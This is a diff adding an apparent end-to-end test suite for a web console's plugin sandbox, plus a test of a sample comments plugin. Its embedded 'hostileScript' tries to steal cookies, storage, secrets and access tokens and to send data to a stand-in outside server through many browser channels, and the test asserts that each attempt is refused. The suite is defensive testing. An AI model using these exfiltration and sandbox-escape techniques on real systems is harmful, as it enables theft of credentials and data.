@@ -1,0 +1,253 @@
+import { readdir, readFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { once } from 'node:events';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, beforeAll, expect, test } from '@jest/globals';
+import type { Frame, Page } from 'playwright-core';
+import { pollUntil } from '../../../pkg/testenv/faults/poll-until.ts';
+import { ConsoleSite, expectAccessible } from './console-site.ts';
+
+const sample = fileURLToPath(new URL('../../../config/samples/plugins/blog', import.meta.url));
+const plugins = '/apis/plugin.svc.run/v1alpha1/plugins';
+const blog = '/apis/blog.example.com/v1';
+
+let site: ConsoleSite;
+/** Somewhere else: whatever reaches it was sent out. */
+let outside: Server;
+let outsideUrl: string;
+let reached = 0;
+
+beforeAll(async () => {
+  outside = createServer((_request, response) => {
+    reached += 1;
+    response.end();
+  }).listen(0, '127.0.0.1');
+  await once(outside, 'listening');
+  outsideUrl = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
+  site = await ConsoleSite.start();
+  await site.addPlugin('hostile', {
+    'plugin.yaml': JSON.stringify({
+      apiVersion: 'plugin.svc.run/v1alpha1',
+      kind: 'Plugin',
+      metadata: { name: 'hostile' },
+      spec: { version: '1.0.0', enabled: true },
+    }),
+    'index.ts': `import { definePlugin } from '@svc/sdk'; export default definePlugin({});`,
+    'presets/page.yaml': JSON.stringify({
+      apiVersion: 'console.svc.run/v1alpha1',
+      kind: 'ConsolePage',
+      metadata: { name: 'hostile' },
+      spec: {
+        title: 'Hostile',
+        frame: { file: 'hostile.html' },
+        rules: [{ apiGroups: [''], resources: ['namespaces'], verbs: ['list'] }],
+      },
+    }),
+    'ui/hostile.html': '<!doctype html><html lang="en"><title>Hostile</title><body><script src="hostile.js"></script>',
+    'ui/hostile.js': hostileScript,
+  });
+  await site.addPlugin('blog', Object.fromEntries(await filesOf(sample)));
+  await pollUntil(async () => (await phaseOf('hostile')) === 'Started' && (await phaseOf('blog')) !== undefined);
+});
+afterAll(async () => {
+  outside.close();
+  await site.stop();
+});
+
+async function filesOf(folder: string): Promise<[string, string][]> {
+  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
+  return Promise.all(
+    entries
+      .filter((entry) => entry.isFile())
+      .map(async (entry): Promise<[string, string]> => {
+        const path = join(entry.parentPath, entry.name);
+        return [path.slice(folder.length + 1), await readFile(path, 'utf8')];
+      }),
+  );
+}
+
+async function phaseOf(plugin: string): Promise<unknown> {
+  const { status } = (await site.api('GET', `${plugins}/${plugin}`).catch(() => ({}))) as {
+    status?: { phase: string };
+  };
+  return status?.phase;
+}
+
+async function enable(plugin: string, enabled: boolean): Promise<void> {
+  await site.api('PATCH', `${plugins}/${plugin}`, { spec: { enabled } });
+  await pollUntil(async () => (await phaseOf(plugin)) === (enabled ? 'Started' : 'Disabled'));
+}
+
+async function frameOf(page: Page, file: string): Promise<Frame> {
+  await pollUntil(() => page.frames().some((frame) => frame.url().endsWith(`/${file}`)));
+  return page.frames().find((frame) => frame.url().endsWith(`/${file}`))!;
+}
+
+/** What it tries with the port runs when the test calls it. */
+const hostileScript = `
+  globalThis.results = {};
+  const attempt = async (name, work) => {
+    try {
+      results[name] = 'did it: ' + String(await work());
+    } catch (error) {
+      results[name] = 'refused';
+    }
+  };
+  const loads = (element, name) => new Promise((resolve, reject) => {
+    element.onload = resolve;
+    element.onerror = reject;
+    Object.assign(element, name);
+    document.body.append(element);
+  });
+  const waiting = new Map();
+  let lastId = 0;
+  globalThis.ask = (request) => new Promise((resolve) => {
+    lastId += 1;
+    waiting.set(lastId, resolve);
+    port.postMessage({ type: 'request', id: lastId, method: 'GET', headers: {}, ...request });
+  });
+  addEventListener('message', ({ ports }) => {
+    if (ports.length === 0) return;
+    globalThis.port = ports[0];
+    port.onmessage = ({ data }) => {
+      if (data.type === 'ask') port.postMessage({ type: 'alive' });
+      if (data.type === 'answer') waiting.get(data.id)?.(data.status);
+    };
+  });
+  globalThis.attack = async (outside, own) => {
+    await attempt('cookie', () => document.cookie);
+    await attempt('localStorage', () => localStorage.length);
+    await attempt('sessionStorage', () => sessionStorage.length);
+    await attempt('indexedDB', () => new Promise((resolve, reject) => { const open = indexedDB.open('a'); open.onsuccess = resolve; open.onerror = reject; }));
+    await attempt('parent document', () => parent.document.title);
+    await attempt('parent function', () => parent.fetch('/api/v1/secrets'));
+    await attempt('top navigation', () => { top.location.href = outside + '/top'; throw new Error('asked'); });
+    await attempt('pop-up', () => { if (window.open(outside + '/popup') === null) throw new Error('none'); });
+    await attempt('dialog', () => { if (confirm('Password?') !== true) throw new Error('none'); });
+    await attempt('fetch outside', () => fetch(outside + '/fetch', { mode: 'no-cors' }));
+    await attempt('fetch the API', () => fetch(own + '/api/v1/namespaces'));
+    await attempt('XMLHttpRequest', () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.onload = resolve; request.onerror = reject; request.open('GET', outside + '/xhr'); request.send(); }));
+    await attempt('WebSocket', () => new Promise((resolve, reject) => { const socket = new WebSocket(outside.replace('http', 'ws')); socket.onopen = resolve; socket.onerror = reject; }));
+    await attempt('EventSource', () => new Promise((resolve, reject) => { const source = new EventSource(outside + '/events'); source.onopen = resolve; source.onerror = () => { source.close(); reject(); }; }));
+    await attempt('image', () => loads(new Image(), { src: outside + '/image' }));
+    await attempt('style', () => loads(document.createElement('link'), { rel: 'stylesheet', href: outside + '/style' }));
+    await attempt('script', () => loads(document.createElement('script'), { src: outside + '/script' }));
+    await attempt('inline script', () => { const script = document.createElement('script'); script.textContent = 'globalThis.inline = 1'; document.body.append(script); if (globalThis.inline !== 1) throw new Error('none'); });
+    await attempt('eval', () => eval('1'));
+    await attempt('worker', () => new Promise((resolve, reject) => { const worker = new Worker(outside + '/worker'); worker.onmessage = resolve; worker.onerror = reject; }));
+    await attempt('service worker', () => navigator.serviceWorker.register('hostile.js'));
+    await attempt('WebRTC', () => new Promise((resolve, reject) => {
+      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + new URL(outside).port }] });
+      peer.onicecandidate = ({ candidate }) => (candidate === null ? reject() : resolve());
+      peer.createDataChannel('a');
+      peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(reject);
+      setTimeout(reject, 2000);
+    }));
+    navigator.sendBeacon?.(outside + '/beacon', 'a');
+    for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect', 'prerender']) {
+      const link = document.createElement('link');
+      Object.assign(link, { rel, href: outside + '/' + rel, as: 'script' });
+      document.head.append(link);
+    }
+    const form = document.createElement('form');
+    Object.assign(form, { action: outside + '/form', method: 'post' });
+    document.body.append(form);
+    form.submit();
+    const inner = document.createElement('iframe');
+    inner.src = outside + '/inner';
+    document.body.append(inner);
+    await attempt('its rules', async () => { const status = await ask({ path: '/api/v1/namespaces' }); if (status !== 200) throw new Error(String(status)); });
+    for (const path of ['/api/v1/secrets', '/api/v1/users/profile/', '/apis/uc.api.security.svc.run/v1alpha1/personalaccesstokens'])
+      await attempt(path, async () => { const status = await ask({ path, headers: { 'x-svc-page': 'blog-comments', authorization: 'Bearer x', cookie: 'a=b' } }); if (status >= 400) throw new Error(String(status)); });
+    return results;
+  };
+`;
+
+test('a hostile page reaches nothing but what its rules name', async () => {
+  await site.visit(
+    '/p/hostile',
+    async (page) => {
+      const frame = await frameOf(page, 'hostile.html');
+      await pollUntil(async () => (await frame.evaluate('typeof port')) === 'object');
+      const results = (await frame.evaluate(`attack('${outsideUrl}', '${site.url}')`)) as Record<string, string>;
+      const { 'its rules': allowed, WebRTC: webRtc, ...others } = results;
+      expect(allowed).toMatch(/^did it/);
+      // No policy of this browser forbids it; docs/security.md says so.
+      expect(webRtc).toMatch(/^did it/);
+      expect(Object.entries(others).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
+      expect(new URL(page.url()).pathname).toBe('/console/p/hostile');
+      expect(page.context().pages()).toHaveLength(1);
+      expect(reached).toBe(0);
+
+      // It leaves its place: first to elsewhere, which the browser refuses, then to another of its files.
+      await frame.evaluate(`void (location.href = 'hostile.js')`).catch(() => undefined);
+      await page.getByText('The page was closed, because it left its place.').waitFor();
+      expect(await page.locator('iframe').count()).toBe(0);
+      await page.getByRole('button', { name: 'Open it again' }).click();
+
+      const flooding = await frameOf(page, 'hostile.html');
+      await pollUntil(async () => (await flooding.evaluate('typeof port')) === 'object');
+      await flooding
+        .evaluate(`for (let i = 0; i < 5000; i += 1) port.postMessage({ type: 'height', pixels: i })`)
+        .catch(() => undefined);
+      await page.getByText('The page was closed, because it sent too much.').waitFor();
+      await page.getByRole('button', { name: 'Open it again' }).click();
+
+      const strange = await frameOf(page, 'hostile.html');
+      await pollUntil(async () => (await strange.evaluate('typeof port')) === 'object');
+      await strange
+        .evaluate(`void port.postMessage({ type: 'request', id: 1, method: 'GET', path: '//elsewhere/', headers: {} })`)
+        .catch(() => undefined);
+      await page.getByText('it sent something that no page sends').waitFor();
+      await page.getByRole('button', { name: 'Open it again' }).click();
+
+      const leaving = await frameOf(page, 'hostile.html');
+      await pollUntil(async () => (await leaving.evaluate('typeof port')) === 'object');
+      await leaving.evaluate(`void (location.href = '${outsideUrl}/navigation')`).catch(() => undefined);
+      await page.getByText('The page was closed, because it left its place.').waitFor();
+      expect(reached).toBe(0);
+    },
+    // The browser tells of all that it refuses, and of what was asked before it refused.
+    { expected: /./ },
+  );
+});
+
+test('the page of the sample plugin lists, approves and deletes comments, and stays when its plugin stops', async () => {
+  await enable('blog', true);
+  const comment = (name: string): object => ({
+    apiVersion: 'blog.example.com/v1',
+    kind: 'Comment',
+    metadata: { name },
+    spec: { post: 'welcome', author: 'ann', content: `Words of ${name}` },
+  });
+  await site.api('POST', `${blog}/comments`, comment('first'));
+  await site.api('POST', `${blog}/comments`, comment('second'));
+  await site.visit('/', async (page) => {
+    await page.getByRole('link', { name: 'Comments to approve' }).click();
+    const frame = page.frameLocator('iframe[title="Comments to approve"]');
+    await frame.getByText('Words of first').waitFor();
+    await expectAccessible(page);
+    await frame.getByRole('listitem').filter({ hasText: 'first' }).getByRole('button', { name: 'Approve' }).click();
+    await frame.getByText('Words of first').waitFor({ state: 'hidden' });
+
+    const remove = frame.getByRole('listitem').filter({ hasText: 'second' }).getByRole('button', { name: 'Delete' });
+    await remove.click();
+    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
+    await frame.getByText('the user did not want to delete it').waitFor();
+    await remove.click();
+    await page.getByRole('dialog').getByText('DELETE /apis/blog.example.com/v1/comments/second').waitFor();
+    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
+    await frame.getByText('No comment waits.').waitFor();
+    await pollUntil(async () => ((await site.api('GET', `${blog}/comments`))['items'] as unknown[]).length === 1);
+
+    await enable('blog', false);
+    await page.getByText('The plugin of this page has stopped.').waitFor();
+    await frame.getByText('No comment waits.').waitFor();
+    await enable('blog', true);
+    await page.getByText('The plugin of this page has stopped.').waitFor({ state: 'hidden' });
+    await site.api('POST', `${blog}/comments`, comment('third'));
+    await frame.getByText('Words of third').waitFor();
+  });
+});
